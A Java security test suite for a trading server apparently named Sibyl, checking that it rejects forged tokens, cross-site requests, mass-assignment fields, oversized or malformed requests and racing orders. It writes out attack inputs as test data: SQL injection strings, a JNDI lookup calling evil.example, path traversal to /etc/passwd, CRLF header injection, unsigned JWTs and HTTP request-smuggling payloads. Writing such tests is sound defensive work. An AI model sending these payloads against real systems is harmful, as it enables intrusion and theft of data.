package sibyl.systemtests;

import static org.assertj.core.api.Assertions.assertThat;
import static sibyl.systemtests.program.Sibyl.aSibyl;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import sibyl.systemtests.people.Intruder;
import sibyl.systemtests.people.Intruder.Answer;
import sibyl.systemtests.people.Person;
import sibyl.systemtests.people.Staff;
import sibyl.systemtests.program.Sibyl;

/** What strangers, other sites and cheats try on the running program, and what it answers. */
@Timeout(300)
class SecurityIT {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String SECRET_PASSWORD = "the password of mallory";

  private static final String CHUNKED = "Transfer-Encoding: chunked\r\n\r\n";

  @AutoClose private static Sibyl sibyl;
  private static Staff staff;
  private static Intruder intruder;
  private static String market;

  @BeforeAll
  static void start(@TempDir Path directory) {
    sibyl = aSibyl().withData(directory.resolve("data")).start().awaitReady();
    staff = Staff.signIn(sibyl.url());
    intruder = new Intruder(sibyl.url());
    market = staff.opensMarket("Is it safe?");
  }

  @Test
  void forgedAndExpiredTokensAreNobodys() throws Exception {
    String session = intruder.signUp("token-owner");
    String other = intruder.signUp("token-other");
    String key = intruder.key(session);
    String otherKey = intruder.key(other);
    String ended = intruder.signUp("token-ended");
    assertThat(intruder.post("/auth/logout", null, cookie(ended)).status()).isEqualTo(204);
    String revoked = intruder.key(session);
    String revokedId =
        intruder
            .json("GET", "/keys", null, cookie(session))
            .at("/items")
            .valueStream()
            .map(item -> item.path("key_id").asText())
            .filter(revoked::contains)
            .findFirst()
            .orElseThrow();
    assertThat(intruder.send("DELETE", "/keys/" + revokedId, null, cookie(session)).status())
        .isEqualTo(204);
    String admin = intruder.staffToken();
    byte[] hash =
        MessageDigest.getInstance("SHA-256").digest(session.getBytes(StandardCharsets.UTF_8));

    Map<String, Map<String, String>> forged = new LinkedHashMap<>();
    forged.put("nothing", Map.of());
    forged.put("an empty cookie", cookie(""));
    forged.put("a word", cookie("deleted"));
    forged.put("a made-up token", cookie("A".repeat(43)));
    forged.put("a token cut short", cookie(session.substring(1)));
    forged.put("a token with more", cookie(session + "A"));
    forged.put("a token in other case", cookie(flipped(session)));
    forged.put("a token turned round", cookie(new StringBuilder(session).reverse().toString()));
    forged.put("a token in Base64", cookie(base64(session)));
    forged.put("a token in hexadecimal", cookie(hex(session.getBytes(StandardCharsets.UTF_8))));
    forged.put("what the database has of it", cookie(hex(hash)));
    forged.put(
        "what the database has of it, in Base64",
        cookie(Base64.getUrlEncoder().withoutPadding().encodeToString(hash)));
    forged.put("a session that was ended", cookie(ended));
    forged.put("a key as a cookie", cookie(key));
    forged.put("an account number", cookie("16"));
    forged.put("SQL", cookie("'OR'1'='1"));
    forged.put("a JSON web token without algorithm", cookie(jwt("none")));
    forged.put("a bearer without token", bearer(""));
    forged.put("a bearer of null", bearer("null"));
    forged.put("a session as a key", bearer(session));
    forged.put("a staff session as a key", bearer(admin));
    forged.put("a key cut short", bearer(key.substring(0, key.length() - 1)));
    forged.put("a key with more", bearer(key + "A"));
    forged.put("a key in other case", bearer(flipped(key)));
    forged.put("a key that was revoked", bearer(revoked));
    forged.put("one key's name, the other's secret", bearer(crossed(key, otherKey)));
    forged.put("the public part of a key", bearer(key.substring(0, key.lastIndexOf('_') + 1)));
    forged.put("a signed JSON web token", bearer(jwt("HS256")));
    forged.put("a very long token", bearer("A".repeat(4_000)));
    forged.put("basic credentials", Map.of("Authorization", "Basic " + base64("admin:sibyl-dev")));
    forged.put("a digest", Map.of("Authorization", "Digest username=\"admin\""));
    forged.put("a header of somebody's own", Map.of("X-User-Id", "16", "X-Account", "16"));
    forged.put("a forwarded user", Map.of("X-Forwarded-User", "admin", "Remote-User", "admin"));

    assertThat(forged).hasSizeGreaterThanOrEqualTo(20);
    List<String> wrong = new ArrayList<>();
    forged.forEach(
        (what, headers) -> {
          for (String path : List.of("/auth/me", "/portfolio/balance", "/admin/auth/me")) {
            Answer answer = intruder.send("GET", path, null, headers);
            if (answer.status() != 401) {
              wrong.add(what + " at " + path + ": " + answer.status() + " " + answer.text());
            }
          }
        });
    assertThat(wrong).isEmpty();
    assertThat(intruder.send("GET", "/auth/me", null, cookie(session)).status()).isEqualTo(200);
    assertThat(intruder.send("GET", "/auth/me", null, bearer(key)).status()).isEqualTo(200);
    // The right token of the wrong kind.
    assertThat(intruder.send("GET", "/admin/auth/me", null, cookie(session)).status())
        .isEqualTo(403);
    assertThat(
            intruder
                .send("GET", "/admin/auth/me", null, Map.of("Cookie", "sibyl_staff=" + session))
                .status())
        .isEqualTo(401);
    assertThat(intruder.send("GET", "/auth/me", null, cookie(admin)).status()).isEqualTo(401);
  }

  @Test
  void otherSitesMoveNothingInSomebodysName() {
    String session = intruder.signUp("csrf-victim");
    String own = sibyl.url().toString();
    int port = sibyl.url().getPort();
    Map<String, Map<String, String>> forms = new LinkedHashMap<>();
    forms.put("another site", Map.of("Origin", "https://evil.example"));
    forms.put("no origin to speak of", Map.of("Origin", "null"));
    forms.put("an empty origin", Map.of("Origin", ""));
    forms.put("another port", Map.of("Origin", "http://127.0.0.1:" + (port + 1)));
    forms.put("the host without its port", Map.of("Origin", "http://127.0.0.1"));
    forms.put("a name of the same machine", Map.of("Origin", "http://localhost:" + port));
    forms.put("our host inside another's", Map.of("Origin", own + ".evil.example"));
    forms.put("another's before our host", Map.of("Origin", "http://evil.example." + own));
    forms.put("our host as a user", Map.of("Origin", "http://127.0.0.1:" + port + "@evil.example"));
    forms.put("a user at our host", Map.of("Origin", "http://evil@127.0.0.1:" + port));
    forms.put("our host as a path", Map.of("Origin", "http://evil.example/127.0.0.1:" + port));
    forms.put("our host as a fragment", Map.of("Origin", "http://evil.example#127.0.0.1"));
    forms.put("a file", Map.of("Origin", "file://"));
    forms.put("an extension", Map.of("Origin", "chrome-extension://abcdefgh"));
    forms.put("no address", Map.of("Origin", "::not an address::"));
    forms.put("another site, by its kind", Map.of("Sec-Fetch-Site", "cross-site"));
    forms.put("a sibling site, by its kind", Map.of("Sec-Fetch-Site", "same-site"));
    forms.put(
        "another site that says it is ours",
        Map.of("Origin", "https://evil.example", "Sec-Fetch-Site", "same-origin", "Referer", own));
    assertThat(forms).hasSizeGreaterThanOrEqualTo(12);
    List<String> wrong = new ArrayList<>();
    forms.forEach(
        (what, headers) -> {
          Map<String, String> all = new LinkedHashMap<>(headers);
          all.putAll(cookie(session));
          Answer answer = intruder.post("/wallet/deposits", "{\"amount\":\"5\"}", all);
          if (answer.status() != 403 || !answer.text().contains("wrong_origin")) {
            wrong.add(what + ": " + answer.status() + " " + answer.text());
          }
        });
    // What a plain form can send without asking first is never read as JSON.
    for (String type :
        List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data")) {
      Map<String, String> all = new LinkedHashMap<>(cookie(session));
      all.put("Content-Type", type);
      Answer answer = intruder.post("/wallet/deposits", "{\"amount\":\"5\"}", all);
      if (answer.status() != 415) {
        wrong.add(type + ": " + answer.status() + " " + answer.text());
      }
    }
    // Nor is a request another than it says.
    Map<String, String> override = new LinkedHashMap<>(cookie(session));
    override.put("X-HTTP-Method-Override", "POST");
    assertThat(intruder.send("GET", "/wallet/deposits", null, override).status())
        .isIn(200, 404, 405);
    assertThat(wrong).isEmpty();
    JsonNode balance = intruder.json("GET", "/portfolio/balance", null, cookie(session));
    assertThat(balance.path("held").asText()).isEqualTo("0.00");
    assertThat(intruder.json("GET", "/portfolio/ledger", null, cookie(session)).toString())
        .doesNotContain("\"5.00\"");
  }

  @Test
  void nobodyGivesHimselfMoreThanTheFormHas() {
    String session = intruder.signUp("mass");
    String register =
        "\"username\":\"mass-two\",\"email\":\"m@people.example\",\"password\":\""
            + SECRET_PASSWORD
            + "\"";
    String order =
        ("\"market_id\":\"%s\",\"side\":\"buy\",\"outcome\":\"yes\",\"type\":\"limit\","
                + "\"price\":\"0.5\",\"quantity\":\"1\"")
            .formatted(market);
    Map<String, String> forms = new LinkedHashMap<>();
    for (String more :
        List.of(
            "\"role\":\"admin\"",
            "\"roles\":[\"admin\"]",
            "\"is_staff\":true",
            "\"account_id\":\"1\"",
            "\"balance\":\"1000000\"",
            "\"suspended\":false",
            "\"__proto__\":{\"role\":\"admin\"}")) {
      forms.put("/auth/register " + more, register);
    }
    for (String more :
        List.of(
            "\"account_id\":\"16\"",
            "\"order_id\":\"1\"",
            "\"status\":\"filled\"",
            "\"fees\":\"-5\"",
            "\"filled_quantity\":\"1\"",
            "\"seq\":1")) {
      forms.put("/orders " + more, order);
    }
    for (String more :
        List.of("\"account_id\":\"16\"", "\"kind\":\"bonus\"", "\"state\":\"completed\"")) {
      forms.put("/wallet/deposits " + more, "\"amount\":\"1\"");
    }
    forms.put("/keys \"account_id\":\"16\"", "\"name\":\"k\",\"scopes\":[\"read\"]");
    forms.put("/keys \"secret\":\"mine\"", "\"name\":\"k\",\"scopes\":[\"read\"]");
    List<String> wrong = new ArrayList<>();
    forms.forEach(
        (form, good) -> {
          String[] parts = form.split(" ", 2);
          Answer answer =
              intruder.post(parts[0], "{" + good + "," + parts[1] + "}", cookie(session));
          if (answer.status() != 400 || !answer.text().contains("\"malformed\"")) {
            wrong.add(form + ": " + answer.status() + " " + answer.text());
          }
        });
    for (String scopes : List.of("[\"admin\"]", "[\"read\",\"staff\"]", "[\"*\"]")) {
      Answer answer =
          intruder.post("/keys", "{\"name\":\"k\",\"scopes\":" + scopes + "}", cookie(session));
      if (answer.status() != 400) {
        wrong.add(scopes + ": " + answer.status());
      }
    }
    assertThat(wrong).isEmpty();
  }

  @Test
  void whatIsWrittenIsNeverReadAsAnythingElse() {
    String session = intruder.signUp("inject");
    List<String> wrong = new ArrayList<>();
    List<String> texts =
        List.of(
            "' OR '1'='1",
            "'; DROP TABLE users; --",
            "\\'; SELECT pg_sleep(20); --",
            "1 UNION SELECT password_hash FROM credentials",
            "$$;DELETE FROM sessions;$$",
            "%' OR username LIKE '%",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "a\r\nSet-Cookie: sibyl_staff=x");
    for (String text : texts) {
      String quoted = quoted(text);
      long begun = System.nanoTime();
      expect(
          wrong,
          "login as " + text,
          intruder.post(
              "/auth/login",
              "{\"username\":" + quoted + ",\"password\":\"x y z w v u\"}",
              Map.of()),
          401,
          429);
      expect(
          wrong,
          "register as " + text,
          intruder.post(
              "/auth/register",
              "{\"username\":" + quoted + ",\"email\":\"a@b.example\",\"password\":\"12345678\"}",
              Map.of()),
          400,
          422,
          429);
      String encoded = Intruder.encoded(text);
      for (String path :
          List.of(
              "/events?q=" + encoded,
              "/events?category=" + encoded,
              "/events?cursor=" + encoded,
              "/events/" + encoded,
              "/markets/" + encoded + "/book",
              "/orders/by_client_id/" + encoded,
              "/orders?market_id=" + encoded)) {
        Answer answer = intruder.send("GET", path, null, cookie(session));
        expect(wrong, path, answer, 200, 400, 404);
        if (!answer.header("Set-Cookie").isEmpty()) {
          wrong.add(path + " set a cookie");
        }
        if (answer.status() == 200 && answer.text().contains("Is it safe?")) {
          wrong.add(path + " found what it should not");
        }
      }
      Answer placed =
          intruder.post(
              "/orders",
              ("{\"market_id\":\"%s\",\"side\":\"buy\",\"outcome\":\"yes\",\"type\":\"limit\","
                      + "\"price\":\"0.5\",\"quantity\":\"1\",\"message\":%s}")
                  .formatted(market, quoted),
              cookie(session));
      expect(wrong, "an order that says " + text, placed, 201, 422);
      if (System.nanoTime() - begun > 15_000_000_000L) {
        wrong.add(text + " made it sleep");
      }
    }
    for (String path :
        List.of(
            "/api/v1/../../metrics.txt",
            "/api/v1/%2e%2e/%2e%2e/etc/passwd",
            "/docs/../../../etc/passwd",
            "/docs/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "/api/v1/admin/..;/admin/staff",
            "/api/v1//admin/staff",
            "/API/V1/ADMIN/STAFF")) {
      Answer answer = intruder.at(path);
      if (answer.status() == 200 && answer.text().contains("root:")) {
        wrong.add(path + ": " + answer.text());
      }
      if (answer.status() >= 500) {
        wrong.add(path + ": " + answer.status());
      }
    }
    assertThat(wrong).isEmpty();
    assertThat(intruder.send("GET", "/auth/me", null, cookie(session)).status()).isEqualTo(200);
  }

  @Test
  void monstrousAndBrokenRequestsAreRefusedAndHarmNobody() throws IOException {
    String session = intruder.signUp("monster");
    List<String> wrong = new ArrayList<>();
    Map<String, String> bodies = new LinkedHashMap<>();
    bodies.put("nothing", "");
    bodies.put("white space", "   ");
    bodies.put("half an object", "{\"amount\":");
    bodies.put("two objects", "{\"amount\":\"1\"}{\"amount\":\"1\"}");
    bodies.put("a list", "[{\"amount\":\"1\"}]");
    bodies.put("a text", "\"amount\"");
    bodies.put("null", "null");
    bodies.put("no number", "{\"amount\":NaN}");
    bodies.put("single quotes", "{'amount':'1'}");
    bodies.put("a mark of byte order", "\ufeff{\"amount\":[]}");
    bodies.put("an endless number", "{\"amount\":" + "9".repeat(10_000) + "}");
    bodies.put("a huge exponent", "{\"amount\":1e999999999}");
    bodies.put("deep lists", "[".repeat(20_000));
    bodies.put("deep objects", "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000));
    bodies.put("deep but closed", "{\"amount\":" + "[".repeat(900) + "]".repeat(900) + "}");
    bodies.put("many fields", "{" + "\"a\":1,".repeat(5_000) + "\"amount\":\"1\"}");
    bodies.put("a surrogate alone", "{\"amount\":\"\\ud800\"}");
    bodies.put("a NUL", "{\"amount\":\"1\\u0000\"}");
    bodies.put("too much", "{\"amount\":\"" + "1".repeat(200_000) + "\"}");
    bodies.forEach(
        (what, body) ->
            expect(
                wrong, what, intruder.post("/wallet/deposits", body, cookie(session)), 400, 413));
    Map<String, String> raw = new LinkedHashMap<>();
    raw.put("no HTTP", "HELO there\r\n\r\n");
    raw.put("a version nobody has", "GET /health/live HTTP/9.9\r\nHost: x\r\n\r\n");
    raw.put("a long line", "GET /" + "a".repeat(20_000) + " HTTP/1.1\r\nHost: x\r\n\r\n");
    raw.put(
        "a long header",
        "GET /health/live HTTP/1.1\r\nHost: x\r\nX-A: " + "a".repeat(100_000) + "\r\n\r\n");
    raw.put(
        "many headers",
        "GET /health/live HTTP/1.1\r\nHost: x\r\n" + "X-A: aaaaaaaa\r\n".repeat(5_000) + "\r\n");
    raw.put(
        "a negative length",
        "POST /api/v1/orders HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n");
    raw.put(
        "two lengths",
        "POST /api/v1/orders HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n"
            + "hello!");
    raw.put(
        "a length and chunks",
        "POST /api/v1/orders HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
            .concat(CHUNKED)
            .concat("0\r\n\r\n")
            .concat("GET /api/v1/admin/staff HTTP/1.1\r\n\r\n"));
    raw.put(
        "a chunk of no size",
        "POST /api/v1/orders HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n");
    raw.put("nobody's host", "GET /api/v1/events HTTP/1.1\r\n\r\n");
    raw.put("another's host", "GET /api/v1/events HTTP/1.1\r\nHost: evil.example\r\n\r\n");
    raw.put("a percent sign", "GET /% HTTP/1.1\r\nHost: localhost\r\n\r\n");
    raw.put(
        "a coding nobody has",
        "GET /health/live HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: gzip\r\n\r\n");
    raw.put(
        "a folded header", "GET /health/live HTTP/1.1\r\nHost: localhost\r\nX-A: a\r\n b\r\n\r\n");
    raw.put("a NUL in a header", "GET /health/live HTTP/1.1\r\nHost: x\r\nX-A: a\0b\r\n\r\n");
    for (Map.Entry<String, String> request : raw.entrySet()) {
      String answer = raw(request.getValue());
      // Refused, or the connection just closed.
      if (!answer.isEmpty() && !answer.startsWith("HTTP/1.1 4")) {
        wrong.add(request.getKey() + ": " + answer);
      }
    }
    assertThat(wrong).isEmpty();
    assertThat(intruder.at("/health/ready").status()).isEqualTo(200);
    assertThat(intruder.send("GET", "/auth/me", null, cookie(session)).status()).isEqualTo(200);
  }

  @Test
  void aHundredOrdersAtOnceGetNoMoreThanTheBalanceCovers() throws Exception {
    Person rich = Person.signUp(sibyl.url(), "hundred").deposits("85.00");
    Person poor = Person.signUp(sibyl.url(), "hundred-orders").deposits("10.00");
    rich.get("/portfolio/balance").expect(200);
    String before = poor.cash();
    // Twelve cents each: so many and no more, whatever the bonus of the first day.
    long available = Math.round(Double.parseDouble(before.split(" ", 2)[0]) * 100);
    long affordable = Math.min(100, available / 50);
    List<Callable<Integer>> orders = new ArrayList<>();
    for (int i = 0; i < 100; i++) {
      orders.add(
          () -> poor.post("/orders", Person.limit("buy", "1", "yes", "0.50", market)).status());
    }
    int accepted = 0;
    int refused = 0;
    try (ExecutorService many = Executors.newVirtualThreadPerTaskExecutor()) {
      for (Future<Integer> answer : many.invokeAll(orders)) {
        switch (answer.get()) {
          case 201 -> accepted++;
          case 422 -> refused++;
          default -> throw new AssertionError("answered with " + answer.get());
        }
      }
    }
    assertThat(accepted).isEqualTo(affordable);
    assertThat(accepted + refused).isEqualTo(100);
    assertThat(poor.cash())
        .isEqualTo(
            String.format(
                Locale.ROOT,
                "%.2f + %.2f",
                (available - 50 * affordable) / 100.0,
                50 * affordable / 100.0));
  }

  private static void expect(List<String> wrong, String what, Answer answer, Integer... statuses) {
    if (!List.of(statuses).contains(answer.status())) {
      wrong.add(what + ": " + answer.status() + " " + answer.text());
    }
  }

  private static String raw(String request) throws IOException {
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), sibyl.url().getPort())) {
      socket.setSoTimeout(2_000);
      socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
      byte[] answer = new byte[64 * 1024];
      int length = socket.getInputStream().read(answer);
      return length < 0 ? "" : new String(answer, 0, length, StandardCharsets.ISO_8859_1);
    } catch (IOException e) {
      return ""; // closed on us, or kept waiting: either is an answer
    }
  }

  private static Map<String, String> cookie(String token) {
    return Map.of("Cookie", "sibyl_session=" + token);
  }

  private static Map<String, String> bearer(String token) {
    return Map.of("Authorization", "Bearer " + token);
  }

  private static String flipped(String text) {
    StringBuilder flipped = new StringBuilder();
    text.chars()
        .forEach(
            c ->
                flipped.appendCodePoint(
                    Character.isUpperCase(c)
                        ? Character.toLowerCase(c)
                        : Character.toUpperCase(c)));
    return flipped.toString();
  }

  /** The first half of one, the second of the other. */
  private static String crossed(String one, String other) {
    return one.substring(0, one.length() / 2) + other.substring(one.length() / 2);
  }

  private static String jwt(String algorithm) {
    return base64("{\"alg\":\"" + algorithm + "\",\"typ\":\"JWT\"}")
        + "."
        + base64("{\"sub\":\"16\",\"role\":\"admin\"}")
        + "."
        + (algorithm.equals("none") ? "" : base64("signature"));
  }

  private static String base64(String text) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  private static String hex(byte[] bytes) {
    return HexFormat.of().formatHex(bytes);
  }

  private static String quoted(String text) {
    return JSON.getNodeFactory().textNode(text).toString();
  }
}
